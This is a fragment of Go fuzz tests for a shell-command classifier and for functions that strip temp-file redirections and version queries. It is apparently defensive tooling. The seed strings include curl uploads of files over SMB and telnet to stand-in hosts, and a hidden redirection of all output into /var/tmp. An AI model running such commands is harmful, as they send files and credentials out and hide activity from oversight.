	for _, s := range []string{"exec >/var/tmp/a/.q 2>&1; id", "id >>'/tmp/x", ">", "2>/dev/shm/", "a &> /tmp/b | c"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := withoutTempOutput(s)
		if len(got) > len(s)+1 {
			t.Fatalf("%q grew to %q", s, got)
		}
		if again := withoutTempOutput(got); strings.Contains(got, ">/tmp/") && again == got {
			t.Fatalf("%q: %q keeps a redirection into /tmp", s, got)
		}
	})
}

// FuzzClassify: classifying any command text never panics, and taking the
// version queries out of it (withoutVersionQueries) never adds a command:
// what is left is the lower-cased text when nothing asks for a version,
// and otherwise no more separated commands than the text had.
func FuzzClassify(f *testing.F) {
	for _, s := range []string{"ssh -V 2>&1; ls -la /var/tmp", "curl -sN -T . telnet://127.0.0.1:2323", "kubectl version", "ssh -v deploy@h", "curl -T /run/x.tgz -u a:b smb://h/D/x.tgz", "-V", "; ; version"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		slow := time.AfterFunc(5*time.Second, func() { panic(fmt.Sprintf("classify slow on %q", s)) })
		defer slow.Stop()
		classify(s)
		got := withoutVersionQueries(s)
		if !strings.Contains(s, "-V") && !strings.Contains(s, "version") {
			if got != strings.ToLower(s) {
				t.Fatalf("%q: %q, want the text lower-cased", s, got)
			}
			return
		}
		if n, m := len(cmdSepRE.Split(got, -1)), len(cmdSepRE.Split(s, -1)); n > m {
			t.Fatalf("%q: %q has %d commands, more than %d", s, got, n, m)
		}
	})
}
